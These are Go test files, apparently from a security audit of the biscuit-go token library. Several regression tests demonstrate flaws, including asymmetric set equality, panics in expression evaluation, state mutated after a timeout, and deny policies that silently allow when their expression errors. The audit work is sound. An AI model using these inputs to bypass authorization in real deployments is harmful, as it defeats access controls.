			s.Facts = append(s.Facts, fact(fmt.Sprintf("p%d_%d", i, j), biscuit.String(fmt.Sprintf("s%d_%d", i, j)), biscuit.String(fmt.Sprintf("s%d_%d", i/2, j))))
		}
		return s
	}
	src := []srcBlock{mk(0)}
	tok := authorityOf(t, priv, src[0])
	var err error
	for i := 1; i < 30; i++ {
		bb := tok.CreateBlock()
		fillBlock(t, bb, mk(i))
		tok, err = tok.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
		src = append(src, mk(i))
	}
	d, _ := tok.Serialize()
	checkWire(t, "30 blocks", d, src)
	checkReload(t, "30 blocks", tok, pub)
}

// blocks written through the text parser
func TestC07_Probe_ParserBlocks(t *testing.T) {
	pub, priv := keys(t)
	blk, err := parser.FromStringBlockWithParams(`
		right("/a/file1.txt", {p}, "read");
		ints(1, 9223372036854775807, 0);
		when(2006-01-02T15:04:05Z, 1969-12-31T23:59:59Z);
		raw(hex:00ff, hex:);
		flags(true, false);
		sets(["a", "b"], [1, 2], [hex:01], [true], [2006-01-02T15:04:05Z]);
		esc("backslash \\ newline \n tab \t é");
		derived($x, "lit") <- right($x, $y, "read"), $x.starts_with("/a/"), $y.length() >= 0, ["a", "b"].contains($y) || !false;
		derived2($n) <- ints($n, $m, $z), ($n + 1) * 2 - $z / 1 < $m, $n == 1;
		check if right($f, $o, "read"), $f.matches("^/a/.*") or flags(true, false);
		check if when($a, $b), $a > $b, $a >= 2006-01-02T15:04:05Z;
		check if sets($s, $i, $h, $t, $d), $s.intersection(["a"]).union(["z"]).contains("a");
	`, map[string]biscuit.Term{"p": biscuit.String("owner")})
	if err != nil {
		t.Fatal(err)
	}
	bld := biscuit.NewBuilder(priv)
	if err := bld.AddBlock(blk); err != nil {
		t.Fatal(err)
	}
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	src := srcBlock{Facts: blk.Facts, Rules: blk.Rules, Checks: blk.Checks}
	d, _ := tok.Serialize()
	checkWire(t, "parsed authority", d, []srcBlock{src})
	checkReload(t, "parsed authority", tok, pub)

	bb := tok.CreateBlock()
	if err := bb.AddBlock(blk); err != nil {
		t.Fatal(err)
	}
	t2, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	d, _ = t2.Serialize()
	checkWire(t, "parsed block", d, []srcBlock{src, src})
	checkReload(t, "parsed block", t2, pub)
}

// a block with no fresh symbol may be appended any number of times, and the public
// New / NewBlockBuilder path leaves the caller's table as it was
func TestC07_Probe_NewAndSharedBlock(t *testing.T) {
	pub, priv := keys(t)
	syms := &datalog.SymbolTable{}
	ab := biscuit.NewBlockBuilder(syms)
	auth := srcBlock{Facts: []biscuit.Fact{fact("right", biscuit.String("f1"))}, Context: "auth"}
	fillBlock(t, ab, auth)
	ablk := ab.Build()
	if syms.Len() != 0 {
		t.Errorf("caller's base table not restored by Build: %v", *syms)
	}
	tok, err := biscuit.New(nil, priv, syms, ablk)
	if err != nil {
		t.Fatal(err)
	}
	shared := srcBlock{Checks: []biscuit.Check{{Queries: []biscuit.Rule{{Head: biscuit.Predicate{Name: "right"}, Body: []biscuit.Predicate{{Name: "right", IDs: []biscuit.Term{biscuit.String("f1")}}}}}}}}
	bb := tok.CreateBlock()
	fillBlock(t, bb, shared)
	blk := bb.Build()
	t1, err := tok.Append(rand.Reader, blk)
	if err != nil {
		t.Fatal(err)
	}
	t2, err := t1.Append(rand.Reader, blk)
	if err != nil {
		t.Fatal(err)
	}
	d, _ := t2.Serialize()
	checkWire(t, "same block twice", d, []srcBlock{auth, shared, shared})
	checkReload(t, "same block twice", t2, pub)
	d0, _ := tok.Serialize()
	checkWire(t, "parent untouched", d0, []srcBlock{auth})
}

// the token does not alias the caller's input / output buffers, and forks of one parent
// do not disturb each other
func TestC07_Probe_BuffersAndForks(t *testing.T) {
	pub, priv := keys(t)
	auth := richBlock("A")
	tok := authorityOf(t, priv, auth)
	d, _ := tok.Serialize()
	in := append([]byte{}, d...)
	re, err := biscuit.Unmarshal(in)
	if err != nil {
		t.Fatal(err)
	}
	for i := range in {
		in[i] = 0
	}
	out, _ := re.Serialize()
	if !bytes.Equal(out, d) {
		t.Errorf("token aliases the input buffer of Unmarshal")
	}
	for i := range out {
		out[i] = 0
	}
	out2, _ := re.Serialize()
	if !bytes.Equal(out2, d) {
		t.Errorf("token aliases the output buffer of Serialize")
	}

	// forks: one block each from its own CreateBlock, both appended to the same parent
	s1, s2 := richBlock("F1"), richBlock("F2")
	b1, b2 := re.CreateBlock(), re.CreateBlock()
	fillBlock(t, b1, s1)
	fillBlock(t, b2, s2)
	f1, err := re.Append(rand.Reader, b1.Build())
	if err != nil {
		t.Fatal(err)
	}
	f2, err := re.Append(rand.Reader, b2.Build())
	if err != nil {
		t.Fatal(err)
	}
	// grow both forks further, interleaved
	s3, s4 := richBlock("F3"), richBlock("F4")
	b3, b4 := f1.CreateBlock(), f2.CreateBlock()
	fillBlock(t, b3, s3)
	fillBlock(t, b4, s4)
	f1b, err := f1.Append(rand.Reader, b3.Build())
	if err != nil {
		t.Fatal(err)
	}
	f2b, err := f2.Append(rand.Reader, b4.Build())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		tok  *biscuit.Biscuit
		src  []srcBlock
	}{
		{"parent", re, []srcBlock{auth}},
		{"fork1", f1, []srcBlock{auth, s1}},
		{"fork2", f2, []srcBlock{auth, s2}},
		{"fork1b", f1b, []srcBlock{auth, s1, s3}},
		{"fork2b", f2b, []srcBlock{auth, s2, s4}},
	} {
		data, _ := c.tok.Serialize()
		checkWire(t, c.name, data, c.src)
		checkReload(t, c.name, c.tok, pub)
	}
}
