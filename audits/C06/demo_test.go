// C06 audit demonstrations.
//
// Package directory: datalog/   (copy this file to <repo>/datalog/c06_demo_test.go)
// It is an EXTERNAL test package (datalog_test) so that it can also drive the
// parser and the root biscuit package end to end.
//
//	export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
//	go test ./datalog/ -run 'TestC06' -v          # F1, F2, F3, F4(len based), A1
//	go test -race ./datalog/ -run 'TestC06_F4' -v # F4 as a reported DATA RACE
//
// Every test fails on the unchanged library exactly when the violation is present.
package datalog_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"math"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

type dl = datalog.Expression

func eval(e datalog.Expression, vals map[datalog.Variable]*datalog.Term, syms *datalog.SymbolTable) (res datalog.Term, err error, panicked interface{}) {
	defer func() {
		if r := recover(); r != nil {
			panicked = r
		}
	}()
	res, err = e.Evaluate(vals, syms)
	return
}

func bin(f datalog.BinaryOpFunc) datalog.Op { return datalog.BinaryOp{BinaryOpFunc: f} }
func un(f datalog.UnaryOpFunc) datalog.Op   { return datalog.UnaryOp{UnaryOpFunc: f} }
func val(t datalog.Term) datalog.Op         { return datalog.Value{ID: t} }

// ---------------------------------------------------------------------------
// F1: a Set value holding a repeated element (accepted by the text parser, the
// builder and the protobuf decoder, none of which de-duplicates) makes set
// equality asymmetric and wrong, and makes length/union count duplicates.
// ---------------------------------------------------------------------------

func TestC06_F1_SetWithRepeatedElement_Evaluate(t *testing.T) {
	syms := &datalog.SymbolTable{}
	I := func(i int64) datalog.Term { return datalog.Integer(i) }
	dup := datalog.Set{I(1), I(1)}   // mathematically {1}
	other := datalog.Set{I(1), I(2)} // {1,2}

	// equality must be symmetric and {1} != {1,2}
	r1, err1, _ := eval(dl{val(dup), val(other), bin(datalog.Equal{})}, nil, syms)
	r2, err2, _ := eval(dl{val(other), val(dup), bin(datalog.Equal{})}, nil, syms)
	if err1 == nil && r1 != datalog.Bool(false) {
		t.Errorf("[1,1] == [1,2] evaluated to %v, want false (or an error rejecting the operand)", r1)
	}
	if err2 == nil && r2 != datalog.Bool(false) {
		t.Errorf("[1,2] == [1,1] evaluated to %v, want false", r2)
	}
	if err1 == nil && err2 == nil && r1 != r2 {
		t.Errorf("set equality is not symmetric: [1,1]==[1,2] -> %v but [1,2]==[1,1] -> %v", r1, r2)
	}

	// cardinality of {1} is 1
	r, err, _ := eval(dl{val(dup), un(datalog.Length{})}, nil, syms)
	if err == nil && r != datalog.Integer(1) {
		t.Errorf("[1,1].length() = %v, want 1 (or an error)", r)
	}

	// {1} U {2} has 2 elements; the duplicate of the right operand is copied into the result
	r, err, _ = eval(dl{val(datalog.Set{I(1)}), val(datalog.Set{I(2), I(2)}), bin(datalog.Union{}), un(datalog.Length{})}, nil, syms)
	if err == nil && r != datalog.Integer(2) {
		t.Errorf("[1].union([2,2]).length() = %v, want 2 (or an error)", r)
	}
}

func authorizeWith(t *testing.T, blockSrc string, authSrc string) error {
	t.Helper()
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	blk, err := parser.FromStringBlock(blockSrc)
	if err != nil {
		t.Fatalf("parse block: %v", err)
	}
	b := biscuit.NewBuilder(priv)
	if err := b.AddBlock(blk); err != nil {
		t.Fatalf("add block: %v", err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatalf("serialize: %v", err)
	}
	tok2, err := biscuit.Unmarshal(ser) // the set travels through the protobuf decoder
	if err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	a, err := tok2.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		t.Fatalf("authorizer: %v", err)
	}
	pa, err := parser.FromStringAuthorizer(authSrc)
	if err != nil {
		t.Fatalf("parse authorizer: %v", err)
	}
	a.AddAuthorizer(pa)
	return a.Authorize()
}

// Same thing through parser -> builder -> Serialize -> Unmarshal -> Authorize.
func TestC06_F1_SetWithRepeatedElement_EndToEnd(t *testing.T) {
	// each of these checks is mathematically FALSE, so authorization must fail
	for _, src := range []string{
		`check if [1, 1] == [1, 2];`,
		`check if [1, 1].length() == 2;`,
		`check if [1].union([2, 2]).length() == 3;`,
		`s([1, 1]); check if s($x), $x == [1, 9];`,
	} {
		if err := authorizeWith(t, src, `allow if true;`); err == nil {
			t.Errorf("token with %q was authorized; the check is false for sets", src)
		}
	}
	// and the mirrored form of the first one gives the opposite answer
	e1 := authorizeWith(t, `check if [1, 1] == [1, 2];`, `allow if true;`)
	e2 := authorizeWith(t, `check if [1, 2] == [1, 1];`, `allow if true;`)
	if (e1 == nil) != (e2 == nil) {
		t.Errorf("a == b and b == a disagree end to end: %v vs %v", e1, e2)
	}
}

// ---------------------------------------------------------------------------
// F2: a String term whose symbol index is not defined (28..1023, or beyond the
// table; the protobuf decoder accepts any uint64) is not an error: every string
// operator silently works on the placeholder text "<invalid symbol N>".
// ---------------------------------------------------------------------------

func TestC06_F2_UndefinedSymbolIndexIsEvaluatedAsText(t *testing.T) {
	S := func(i uint64) datalog.Term { return datalog.String(i) }
	cases := []struct {
		name string
		syms datalog.SymbolTable
		e    datalog.Expression
	}{
		{"length", datalog.SymbolTable{}, dl{val(S(5000)), un(datalog.Length{})}},
		{"length of reserved gap index 28", datalog.SymbolTable{}, dl{val(S(28)), un(datalog.Length{})}},
		{"starts_with", datalog.SymbolTable{"<invalid"}, dl{val(S(5000)), val(S(1024)), bin(datalog.Prefix{})}},
		{"ends_with", datalog.SymbolTable{"5000>"}, dl{val(S(5000)), val(S(1024)), bin(datalog.Suffix{})}},
		{"contains", datalog.SymbolTable{"symbol"}, dl{val(S(5000)), val(S(1024)), bin(datalog.Contains{})}},
		{"matches", datalog.SymbolTable{"^<invalid symbol [0-9]+>$"}, dl{val(S(math.MaxUint64)), val(S(1024)), bin(datalog.Regex{})}},
		{"undefined regex", datalog.SymbolTable{}, dl{val(S(0)), val(S(6000)), bin(datalog.Regex{})}},
		{"concat", datalog.SymbolTable{}, dl{val(S(5000)), val(S(6000)), bin(datalog.Add{})}},
	}
	for _, c := range cases {
		syms := c.syms
		before := len(syms)
		r, err, p := eval(c.e, nil, &syms)
		if p != nil {
			t.Errorf("%s: panic %v", c.name, p)
			continue
		}
		if err == nil {
			extra := ""
			if len(syms) != before {
				extra = fmt.Sprintf(" and interned %q as a real symbol", syms[len(syms)-1])
			}
			t.Errorf("%s: operand has no string value, want an error, got %v%s", c.name, r, extra)
		}
	}
}

// ---------------------------------------------------------------------------
// F3: Evaluate panics on operator sequences that are malformed at the Go level.
// Not reachable from the parser or the protobuf decoder (they never build
// these), only through the exported datalog API.
// ---------------------------------------------------------------------------

func TestC06_F3_EvaluatePanics(t *testing.T) {
	syms := &datalog.SymbolTable{}
	var nilTerm datalog.Term
	var nilInt *datalog.Integer // *Integer satisfies Term through the promoted value methods
	T, one := datalog.Bool(true), datalog.Integer(1)
	cases := []struct {
		name string
		e    datalog.Expression
		vals map[datalog.Variable]*datalog.Term
		syms *datalog.SymbolTable
	}{
		{"nil Op", dl{nil}, nil, syms},
		{"Value with nil term", dl{datalog.Value{}}, nil, syms},
		{"Value with typed-nil term", dl{val(nilInt)}, nil, syms},
		{"zero UnaryOp", dl{val(T), datalog.UnaryOp{}}, nil, syms},
		{"zero BinaryOp", dl{val(T), val(T), datalog.BinaryOp{}}, nil, syms},
		{"*Value (implements Op)", dl{&datalog.Value{ID: one}}, nil, syms},
		{"*UnaryOp (implements Op)", dl{val(T), &datalog.UnaryOp{UnaryOpFunc: datalog.Negate{}}}, nil, syms},
		{"*BinaryOp (implements Op)", dl{val(T), val(T), &datalog.BinaryOp{BinaryOpFunc: datalog.And{}}}, nil, syms},
		{"variable bound to nil pointer", dl{val(datalog.Variable(1))}, map[datalog.Variable]*datalog.Term{1: nil}, syms},
		{"variable bound to nil term", dl{val(datalog.Variable(1)), un(datalog.Negate{})}, map[datalog.Variable]*datalog.Term{1: &nilTerm}, syms},
		{"set with nil element on the right of ==", dl{val(datalog.Set{one}), val(datalog.Set{nil}), bin(datalog.Equal{})}, nil, syms},
		{"nil symbol table, string length", dl{val(datalog.String(1024)), un(datalog.Length{})}, nil, nil},
		{"nil symbol table, string concat", dl{val(datalog.String(1)), val(datalog.String(2)), bin(datalog.Add{})}, nil, nil},
	}
	for _, c := range cases {
		_, _, p := eval(c.e, c.vals, c.syms)
		if p != nil {
			t.Errorf("%s: Evaluate panicked instead of returning an error: %v", c.name, p)
		}
	}
}

// ---------------------------------------------------------------------------
// F4 (adjacent: run limits): when World.Run gives up on its deadline, the
// abandoned worker keeps evaluating expressions; string concatenation keeps
// appending to the CALLER's symbol table (expressions.go Add.Eval ->
// SymbolTable.Insert) while the caller already got its error back.
// Without -race the test observes the table growing after Run returned;
// with -race the detector reports the read/write pair.
// ---------------------------------------------------------------------------

func TestC06_F4_EvaluationKeepsMutatingSymbolsAfterRunReturned(t *testing.T) {
	syms := &datalog.SymbolTable{}
	p, q, zz := syms.Insert("p"), syms.Insert("q"), syms.Insert("zz")
	w := datalog.NewWorld(datalog.WithMaxDuration(30*time.Millisecond), datalog.WithMaxFacts(1<<30))
	for i := 0; i < 400; i++ {
		w.AddFact(datalog.Fact{Predicate: datalog.Predicate{Name: p, Terms: []datalog.Term{syms.Insert(fmt.Sprintf("s%03d", i))}}})
	}
	// q($a,$b) <- p($a), p($b), !($a + $b == "zz")     -- 160000 concatenations
	w.AddRule(datalog.Rule{
		Head: datalog.Predicate{Name: q, Terms: []datalog.Term{datalog.Variable(1), datalog.Variable(2)}},
		Body: []datalog.Predicate{
			{Name: p, Terms: []datalog.Term{datalog.Variable(1)}},
			{Name: p, Terms: []datalog.Term{datalog.Variable(2)}},
		},
		Expressions: []datalog.Expression{{
			val(datalog.Variable(1)), val(datalog.Variable(2)), bin(datalog.Add{}),
			val(zz), bin(datalog.Equal{}), un(datalog.Negate{}),
		}},
	})
	err := w.Run(syms)
	if err != datalog.ErrWorldRunLimitTimeout {
		t.Skipf("machine too fast/slow for this schedule, Run returned %v", err)
	}
	n1 := syms.Len() // the caller is entitled to use its table again: Run has returned
	time.Sleep(300 * time.Millisecond)
	n2 := syms.Len()
	if n2 != n1 {
		t.Errorf("symbol table grew from %d to %d entries AFTER World.Run returned %v: expression evaluation is still running and writing to the caller's table", n1, n2, err)
	}
}

// ---------------------------------------------------------------------------
// A1 (adjacent: consumer of the error): Evaluate correctly returns an error for
// overflow / division by zero, but World.QueryRule (datalog.go) drops the error
// of Rule.Apply, so in a policy the error reads as "did not match".
// ---------------------------------------------------------------------------

func TestC06_A1_ExpressionErrorInDenyPolicyIsDropped(t *testing.T) {
	for _, pol := range []string{
		`deny if 9223372036854775807 + 1 == 0; allow if true;`,
		`deny if 1 / 0 == 0; allow if true;`,
	} {
		if err := authorizeWith(t, `a(1);`, pol); err == nil {
			t.Errorf("%q: the deny policy's expression failed to evaluate, yet Authorize() returned nil (allowed)", pol)
		}
	}
}
