package datalog

// Belongs to package directory: datalog/   (package datalog)
//
// C05 audit demos. Every test fails on the unchanged library exactly when the
// described violation is present.

import (
	"fmt"
	"sort"
	"testing"
	"time"
)

func auditWorld() *World {
	return NewWorld(WithMaxDuration(30*time.Second), WithMaxFacts(100000), WithMaxIterations(10000))
}

func auditKeys(fs *FactSet) []string {
	out := []string{}
	for _, f := range *fs {
		s := fmt.Sprintf("%d(", f.Name)
		for _, t := range f.Terms {
			s += fmt.Sprintf("%T:%s,", t, t.String())
		}
		out = append(out, s+")")
	}
	sort.Strings(out)
	return out
}

// ---------------------------------------------------------------------------
// F1: QueryRule discards the error of Rule.Apply and returns whatever was
// produced before the first failing expression: the result depends on the
// order of the facts.
// ---------------------------------------------------------------------------
func TestAuditC05_QueryRuleResultDependsOnFactOrder(t *testing.T) {
	syms := &SymbolTable{}
	x, ok := String(2000), String(2001)
	v := Variable(0)
	// ok($v) <- x($v), $v + 9223372036854775807 > 0
	rule := Rule{
		Head: Predicate{Name: ok, Terms: []Term{v}},
		Body: []Predicate{{Name: x, Terms: []Term{v}}},
		Expressions: []Expression{{
			Value{v}, Value{Integer(9223372036854775807)}, BinaryOp{Add{}},
			Value{Integer(0)}, BinaryOp{GreaterThan{}},
		}},
	}
	good := Fact{Predicate{Name: x, Terms: []Term{Integer(-1)}}} // expression is true
	bad := Fact{Predicate{Name: x, Terms: []Term{Integer(1)}}}   // expression overflows

	w1 := auditWorld()
	w1.AddFact(good)
	w1.AddFact(bad)
	r1 := auditKeys(w1.QueryRule(rule, syms))

	w2 := auditWorld()
	w2.AddFact(bad)
	w2.AddFact(good)
	r2 := auditKeys(w2.QueryRule(rule, syms))

	if fmt.Sprint(r1) != fmt.Sprint(r2) {
		t.Errorf("QueryRule over the same set of facts gives different results for different fact orders: %v vs %v", r1, r2)
	}
	// the substitution $v = -1 matches the body and makes the expression true
	if len(r2) != 1 {
		t.Errorf("QueryRule lost the head instance ok(-1): got %v (the evaluation error of another substitution was swallowed)", r2)
	}
}

// ---------------------------------------------------------------------------
// F2: Set.Equal is not symmetric for sets that carry a repeated element
// ([1, 1] is accepted by the text parser, the builder and the wire decoder).
// The structural de-duplication of the fact store and the constant matching
// therefore depend on the order of the facts / on which side the constant is.
// ---------------------------------------------------------------------------
func TestAuditC05_DuplicateElementSet_FactStoreOrderDependent(t *testing.T) {
	p := String(2000)
	a := Fact{Predicate{Name: p, Terms: []Term{Set{Integer(1), Integer(1)}}}}
	b := Fact{Predicate{Name: p, Terms: []Term{Set{Integer(1), Integer(2)}}}}

	w1 := auditWorld()
	w1.AddFact(a)
	w1.AddFact(b)
	w2 := auditWorld()
	w2.AddFact(b)
	w2.AddFact(a)

	if len(*w1.Facts()) != len(*w2.Facts()) {
		t.Errorf("same two facts, different orders: stores hold %d and %d facts (%v / %v)",
			len(*w1.Facts()), len(*w2.Facts()), auditKeys(w1.Facts()), auditKeys(w2.Facts()))
	}
}

func TestAuditC05_DuplicateElementSet_SpuriousConstantMatch(t *testing.T) {
	syms := &SymbolTable{}
	p, hit := String(2000), String(2001)
	// the only fact is p([1, 1]); the rule asks for the constant [1, 2]
	w := auditWorld()
	w.AddFact(Fact{Predicate{Name: p, Terms: []Term{Set{Integer(1), Integer(1)}}}})
	w.AddRule(Rule{
		Head: Predicate{Name: hit},
		Body: []Predicate{{Name: p, Terms: []Term{Set{Integer(1), Integer(2)}}}},
	})
	if err := w.Run(syms); err != nil {
		t.Fatal(err)
	}
	for _, f := range *w.Facts() {
		if f.Name == hit {
			t.Errorf("hit() derived: fact p([1, 1]) matched the body constant [1, 2]; model = %v", auditKeys(w.Facts()))
		}
	}
}

func TestAuditC05_DuplicateElementSet_JoinDependsOnBodyOrder(t *testing.T) {
	syms := &SymbolTable{}
	p, q, hit := String(2000), String(2001), String(2002)
	s := Variable(0)
	mk := func(body ...Predicate) []string {
		w := auditWorld()
		w.AddFact(Fact{Predicate{Name: p, Terms: []Term{Set{Integer(1), Integer(2)}}}})
		w.AddFact(Fact{Predicate{Name: q, Terms: []Term{Set{Integer(1), Integer(1)}}}})
		return auditKeys(w.QueryRule(Rule{Head: Predicate{Name: hit}, Body: body}, syms))
	}
	ps := Predicate{Name: p, Terms: []Term{s}}
	qs := Predicate{Name: q, Terms: []Term{s}}
	r1 := mk(ps, qs)
	r2 := mk(qs, ps)
	if fmt.Sprint(r1) != fmt.Sprint(r2) {
		t.Errorf("hit() <- p($s), q($s) gives %v but hit() <- q($s), p($s) gives %v", r1, r2)
	}
	if len(r1) != 0 {
		t.Errorf("p([1, 2]) and q([1, 1]) were joined on $s: %v", r1)
	}
}

// ---------------------------------------------------------------------------
// F3: World.Clone shares the backing array of the fact store. When the store
// has spare capacity, a fact added to one world overwrites the fact added to
// the other one, and Run then computes the model of the wrong program.
// ---------------------------------------------------------------------------
func TestAuditC05_CloneSharesFactStore(t *testing.T) {
	syms := &SymbolTable{}
	base, seen := String(2000), String(2001)
	v := Variable(0)

	w := auditWorld()
	for i := 0; i < 3; i++ { // len 3, cap 4 with the current append growth
		w.AddFact(Fact{Predicate{Name: base, Terms: []Term{Integer(i)}}})
	}
	if cap(*w.Facts()) == len(*w.Facts()) {
		t.Skip("no spare capacity with this Go version; adjust the number of base facts")
	}
	rule := Rule{Head: Predicate{Name: seen, Terms: []Term{v}}, Body: []Predicate{{Name: base, Terms: []Term{v}}}}

	c1 := w.Clone()
	c2 := w.Clone()
	c1.AddFact(Fact{Predicate{Name: base, Terms: []Term{Integer(100)}}})
	c2.AddFact(Fact{Predicate{Name: base, Terms: []Term{Integer(200)}}})
	c1.AddRule(rule)
	if err := c1.Run(syms); err != nil {
		t.Fatal(err)
	}

	want := []string{}
	for _, n := range []int{0, 1, 2, 100} {
		want = append(want, fmt.Sprintf("%d(datalog.Integer:%d,)", base, n), fmt.Sprintf("%d(datalog.Integer:%d,)", seen, n))
	}
	sort.Strings(want)
	got := auditKeys(c1.Facts())
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("model of clone 1 (facts base(0..2), base(100)):\n got %v\nwant %v", got, want)
	}
}

// ---------------------------------------------------------------------------
// F4 (adjacent, World.Query): comparing terms with the Go != operator panics
// for the non comparable term types (Bytes, Set).
// ---------------------------------------------------------------------------
func TestAuditC05_WorldQueryPanicsOnBytesConstant(t *testing.T) {
	p := String(2000)
	w := auditWorld()
	w.AddFact(Fact{Predicate{Name: p, Terms: []Term{Bytes{1, 2}}}})
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("World.Query panicked: %v", r)
		}
	}()
	res := w.Query(Predicate{Name: p, Terms: []Term{Bytes{1, 2}}})
	if len(*res) != 1 {
		t.Errorf("expected the fact p(hex:0102), got %v", auditKeys(res))
	}
}

// ---------------------------------------------------------------------------
// F5 (adjacent, error path): after Run returned ErrWorldRunLimitTimeout the
// worker goroutine is still alive and inserts facts into the world later on.
// ---------------------------------------------------------------------------
func TestAuditC05_RunMutatesWorldAfterTimeoutReturn(t *testing.T) {
	syms := &SymbolTable{}
	n, out := String(2000), String(2001)
	a, b, c := Variable(0), Variable(1), Variable(2)
	w := NewWorld(WithMaxDuration(5*time.Millisecond), WithMaxFacts(1000000), WithMaxIterations(1000))
	for i := 0; i < 70; i++ {
		w.AddFact(Fact{Predicate{Name: n, Terms: []Term{Integer(i)}}})
	}
	// one slow rule (70^3 combinations), single rule => no deadline check before InsertAll
	w.AddRule(Rule{
		Head: Predicate{Name: out, Terms: []Term{a}},
		Body: []Predicate{{Name: n, Terms: []Term{a}}, {Name: n, Terms: []Term{b}}, {Name: n, Terms: []Term{c}}},
	})
	err := w.Run(syms)
	if err != ErrWorldRunLimitTimeout {
		t.Skipf("expected a timeout to set the scene, got %v", err)
	}
	before := len(*w.Facts())
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
		if len(*w.Facts()) != before {
			t.Errorf("world changed after Run had returned %v: %d facts -> %d facts", err, before, len(*w.Facts()))
			return
		}
	}
}

// ---------------------------------------------------------------------------
// F6 (adjacent, input validation): a non ground "fact" is accepted by AddFact
// and matches every constant, because Predicate.Match skips a position when
// EITHER side is a variable.
// ---------------------------------------------------------------------------
func TestAuditC05_NonGroundFactMatchesEveryConstant(t *testing.T) {
	syms := &SymbolTable{}
	p, hit := String(2000), String(2001)
	w := auditWorld()
	w.AddFact(Fact{Predicate{Name: p, Terms: []Term{Variable(7)}}})
	res := w.QueryRule(Rule{
		Head: Predicate{Name: hit},
		Body: []Predicate{{Name: p, Terms: []Term{Integer(42)}}},
	}, syms)
	if len(*res) != 0 {
		t.Errorf("hit() <- p(42) succeeded although the only stored fact is p($7): %v", auditKeys(res))
	}
}
