package datalog

import (
	"fmt"
	"math/rand"
	"sort"
	"testing"
	"time"
)

// reference evaluator -------------------------------------------------------

func refKey(p Predicate) string {
	s := fmt.Sprintf("%d(", p.Name)
	for _, t := range p.Terms {
		s += fmt.Sprintf("%T:%s,", t, t.String())
	}
	return s + ")"
}

func refMatch(body []Predicate, i int, facts []Predicate, env map[Variable]Term, out func(map[Variable]Term)) {
	if i == len(body) {
		out(env)
		return
	}
	bp := body[i]
	for _, f := range facts {
		if f.Name != bp.Name || len(f.Terms) != len(bp.Terms) {
			continue
		}
		ne := map[Variable]Term{}
		for k, v := range env {
			ne[k] = v
		}
		ok := true
		for j, t := range bp.Terms {
			if v, isVar := t.(Variable); isVar {
				if b, bound := ne[v]; bound {
					if refKey(Predicate{Terms: []Term{b}}) != refKey(Predicate{Terms: []Term{f.Terms[j]}}) {
						ok = false
						break
					}
				} else {
					ne[v] = f.Terms[j]
				}
			} else if refKey(Predicate{Terms: []Term{t}}) != refKey(Predicate{Terms: []Term{f.Terms[j]}}) {
				ok = false
				break
			}
		}
		if ok {
			refMatch(body, i+1, facts, ne, out)
		}
	}
}

func refApply(r Rule, facts []Predicate, syms *SymbolTable) map[string]Predicate {
	res := map[string]Predicate{}
	refMatch(r.Body, 0, facts, map[Variable]Term{}, func(env map[Variable]Term) {
		vals := map[Variable]*Term{}
		for k, v := range env {
			v := v
			vals[k] = &v
		}
		for _, e := range r.Expressions {
			out, err := e.Evaluate(vals, syms)
			if err != nil || !out.Equal(Bool(true)) {
				return
			}
		}
		h := r.Head.Clone()
		for i, t := range h.Terms {
			if v, ok := t.(Variable); ok {
				h.Terms[i] = env[v]
			}
		}
		res[refKey(h)] = h
	})
	return res
}

func refModel(facts []Predicate, rules []Rule, syms *SymbolTable) map[string]Predicate {
	m := map[string]Predicate{}
	for _, f := range facts {
		m[refKey(f)] = f
	}
	for {
		cur := make([]Predicate, 0, len(m))
		for _, f := range m {
			cur = append(cur, f)
		}
		n := len(m)
		for _, r := range rules {
			for k, v := range refApply(r, cur, syms) {
				m[k] = v
			}
		}
		if len(m) == n {
			return m
		}
	}
}

func keysOfSet(fs *FactSet) []string {
	var out []string
	for _, f := range *fs {
		out = append(out, refKey(f.Predicate))
	}
	sort.Strings(out)
	return out
}
func keysOfMap(m map[string]Predicate) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func randConst(rng *rand.Rand) Term {
	switch rng.Intn(6) {
	case 0:
		return Integer(rng.Intn(3))
	case 1:
		return String(rng.Intn(3))
	case 2:
		return Date(rng.Intn(3))
	case 3:
		return Bytes([]byte{byte(rng.Intn(2))})[:rng.Intn(2)]
	case 4:
		return Bool(rng.Intn(2) == 0)
	default:
		// sets without duplicates
		n := 1 + rng.Intn(2)
		s := Set{}
		for i := 0; i < n; i++ {
			e := Integer(rng.Intn(3))
			if !s.contains(e) {
				s = append(s, e)
			}
		}
		if rng.Intn(2) == 0 && len(s) == 2 {
			s[0], s[1] = s[1], s[0]
		}
		return s
	}
}

func TestAuditFuzzLeastModel(t *testing.T) {
	seed := time.Now().UnixNano()
	rng := rand.New(rand.NewSource(seed))
	t.Logf("seed %d", seed)
	arity := map[String]int{0: 0, 1: 1, 2: 2, 3: 2, 4: 3}
	for iter := 0; iter < 3000; iter++ {
		syms := &SymbolTable{}
		var facts []Predicate
		nf := rng.Intn(7)
		intOnly := rng.Intn(2) == 0
		mk := func() Term {
			if intOnly {
				return Integer(rng.Intn(3))
			}
			return randConst(rng)
		}
		for i := 0; i < nf; i++ {
			name := String(rng.Intn(5))
			p := Predicate{Name: name}
			for j := 0; j < arity[name]; j++ {
				p.Terms = append(p.Terms, mk())
			}
			facts = append(facts, p)
		}
		var rules []Rule
		nr := 1 + rng.Intn(4)
		for i := 0; i < nr; i++ {
			var r Rule
			nb := rng.Intn(4)
			var vars []Variable
			for b := 0; b < nb; b++ {
				name := String(rng.Intn(5))
				p := Predicate{Name: name}
				for j := 0; j < arity[name]; j++ {
					if rng.Intn(4) == 0 {
						p.Terms = append(p.Terms, mk())
					} else {
						v := Variable(rng.Intn(3))
